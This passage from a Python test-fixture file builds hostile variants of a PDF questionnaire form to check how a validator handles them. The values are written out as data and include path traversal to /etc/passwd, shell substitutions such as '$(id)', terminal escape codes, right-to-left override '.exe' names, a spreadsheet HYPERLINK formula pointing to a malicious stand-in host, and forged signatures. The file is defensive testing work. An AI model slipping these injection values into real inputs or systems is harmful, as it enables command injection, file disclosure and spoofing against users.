        for name, change in changes.items():
            yield Variant(
                group="active", name=name, expected=expected, build=partial(edited, change)
            )
    yield Variant(
        group="active",
        name="a stream in another file",
        expected=FLAG,
        build=lambda: _with_objects(
            b"/A 9000 0 R", {9000: b"<< /F (//a/b) /Length 0 >>\nstream\n\nendstream"}
        ),
    )


# --- What is written ----------------------------------------------------------------------------
def written() -> Iterator[Variant]:
    def text(part: TextPart, value: object) -> bytes:
        def change(pdf: Pdf) -> None:
            field(pdf, f"Q4-{part.value}").V = value

        return edited(change)

    for name, value in {
        "escape sequences": String("\x1b[2J\x1b]0;a\x07\x9b31m"),
        "turned round": String("\u202ecod.exe\u202c \u2066a\u2069"),
        "controls": String(b"a\x00\x01\x08\x0c\x7fb"),
        "a formula": String('=HYPERLINK("http://mal.example";"cliquez")'),
        "tags": String("<script>alert(1)</script>&lt;"),
        "half a pair": String(b"\xfe\xff\xd8\x00\x00a"),
        "UTF-16, little end first": String(b"\xff\xfe" + "Préfet".encode("utf-16-le")),
        "UTF-8": String(b"\xef\xbb\xbf" + "Préfet".encode()),
        "no letters": String("\u200b\u200d\ufeff"),
        "very long": String("x" * 100_000),
        "many lines": String("\r\n" * 5_000 + "a"),
        "a path": String("../../../../etc/passwd"),
        "JSON": String('"}],"status":"conforming'),
        "percent signs": String("%s%n{0}{a.b}$(id)`id`"),
    }.items():
        yield Variant(
            group="text", name=name, expected=SAME, build=partial(text, TextPart.REMARKS, value)
        )
    for name, value in {
        "a company that is a path": "../../../tmp/x",
        "a company that is a device": "CON",
        "a company of dots": "..",
    }.items():
        yield Variant(
            group="text",
            name=name,
            expected=SAME,
            build=partial(text, TextPart.COMPANY, String(value)),
        )
    for value, expected in {
        "1/3/26": SAME,
        "2026-03-01": SAME,
        "1er mars 2026": SAME,
        "31/02/2026": FLAG,
        "bientôt": FLAG,
        "٣/٤/٢٠٢٦": SAFE,
        "99999999999999999999": FLAG,
        "1/1/1": SAFE,
        "": SAME,
    }.items():
        yield Variant(
            group="date",
            name=value or "empty",
            expected=expected,
            build=partial(text, TextPart.DATE, String(value)),
        )


def metadata() -> Iterator[Variant]:
    def claim(**entries: object) -> bytes:
        def change(pdf: Pdf) -> None:
            for page in pdf.pages:
                form = page.PieceInfo.formgen.Private.Form
                for key, value in entries.items():
                    form["/" + key] = value

        return edited(change)

    def without(pdf: Pdf) -> None:
        for page in pdf.pages:
            del page["/PieceInfo"]

    def title(pdf: Pdf) -> None:
        pdf.docinfo["/Title"] = String("\x1b[2J\u202e")

    for name, entries, expected in (
        ("another catalog", {"Catalog": String("autre")}, REFUSE),
        ("a later version", {"Version": String("99.0")}, REFUSE),
        ("a hostile version", {"Version": String("../../x\x1b[2J")}, REFUSE),
        ("a later edition", {"Edition": 99}, REFUSE),
        ("a negative edition", {"Edition": -1}, REFUSE),
        ("no such questionnaire", {"Questionnaire": String("Q9")}, REFUSE),
        ("another questionnaire", {"Questionnaire": String("Q1")}, FLAG),
        ("a supplier that is a path", {"Supplier": String("../../etc/cron.d/x")}, SAME),
        ("a supplier that is a device", {"Supplier": String("NUL")}, SAME),
        ("a form id that is a path", {"FormId": String("../x")}, SAME),
        ("a supplier that is a number", {"Supplier": 7}, SAME),
    ):
        yield Variant(
            group="metadata", name=name, expected=expected, build=partial(claim, **entries)
        )
    yield Variant(group="metadata", name="none", expected=SAME, build=partial(edited, without))
    yield Variant(
        group="metadata", name="a hostile title", expected=SAME, build=partial(edited, title)
    )


# --- Signed -------------------------------------------------------------------------------------
@cache
def signed() -> bytes:
    return pki.sign(base(), "Q4-signature")


def signatures() -> Iterator[Variant]:
    def refilled(answers: dict[str, Answer]) -> bytes:
        return filled_by_pdfium(
            "Q4", Sheet(answers=answers, texts={}), pdf=signed(), save=Save.INCREMENTAL
        )

    def a_byte_changed() -> bytes:
        at = signed().index(b"\n%") + 2
        return signed()[:at] + bytes([signed()[at] ^ 1]) + signed()[at + 1 :]

    other = OTHER[sheet().answers["Q4-03"]]
    one = partial(Variant, group="signature")
    yield one(name="valid", expected=SAME, build=signed, also=frozenset({"signer-unknown"}))
    yield one(
        name="PAdES", expected=SAME, build=lambda: pki.sign(base(), "Q4-signature", as_pades=True)
    )
    yield one(
        name="certified",
        expected=SAME,
        build=lambda: pki.sign(base(), "Q4-signature", certifies=pki.MDPPerm.FILL_FORMS),
        also=frozenset({"signature-certifies"}),
    )
    yield one(
        name="two signatures",
        expected=SAME,
        build=lambda: pki.sign(signed(), "Direction"),
        also=frozenset({"other-signature"}),
    )
    yield one(
        name="changed answer",
        expected=FLAG,
        build=lambda: refilled({"Q4-03": other}),
        also=frozenset({"changed-after-signing"}),
    )
    yield one(
        name="changed between two",
        expected=FLAG,
        build=lambda: pki.sign(refilled({"Q4-03": other}), "Direction"),
        also=frozenset({"changed-after-signing"}),
    )
    yield one(
        name="broken",
        expected=FLAG,
        build=a_byte_changed,
        also=frozenset({"signature-broken"}),
    )
    yield one(
        name="partial",
        expected=FLAG,
        build=lambda: updated(signed(), {9000: b"<< /Added true >>"}),
        also=frozenset({"signature-partial"}),
    )
    yield one(
        name="written anew",
        expected=FLAG,
        build=lambda: by_pypdf(lambda _: None, of=signed()),
        also=frozenset({"signature-broken"}),
    )
    yield one(
        name="no range",
        expected=FLAG,
        build=lambda: signed().replace(b"/ByteRange", b"/BiteRange"),
        also=frozenset({"signature-unreadable"}),
    )
    yield one(
        name="a forgeable digest",
        expected=FLAG,
        build=lambda: pki.sign(base(), "Q4-signature", md_algorithm="sha1"),
        also=frozenset({"signature-weak"}),
    )

    def no_signature(pdf: Pdf) -> None:
        field(pdf, "Q4-signature").V = Dictionary(Type=Name.Sig)

    yield one(
        name="an empty one",
        expected=FLAG,
        build=partial(edited, no_signature),
        also=frozenset({"signature-unreadable"}),
    )


def file_names() -> Iterator[Variant]:
    for name in (
        "../../etc/passwd",
        "a\x1b[2Jb.pdf",
        "a\u202efdp.exe",
        "CON.pdf",
        "a\nb.pdf",
        "x" * 250 + ".pdf",
        "",
        "-rf.pdf",
        "=1+1.pdf",
        "<img src=x>.pdf",
        "a\udc80.pdf",
    ):
        yield Variant(
            group="file name", name=ascii(name)[:40], expected=SAME, build=base, file_name=name
        )


def all_variants() -> list[Variant]:
    """Give every variant."""
    return [
        variant
        for group in (
            damaged,
            no_pdf,
            cycles,
            deep,
            bombs,
            claims,
            wrong_values,
            rewritten,
            assembled,
            altered,
            active,
            written,
            metadata,
            signatures,
            file_names,
        )
        for variant in group()
    ]
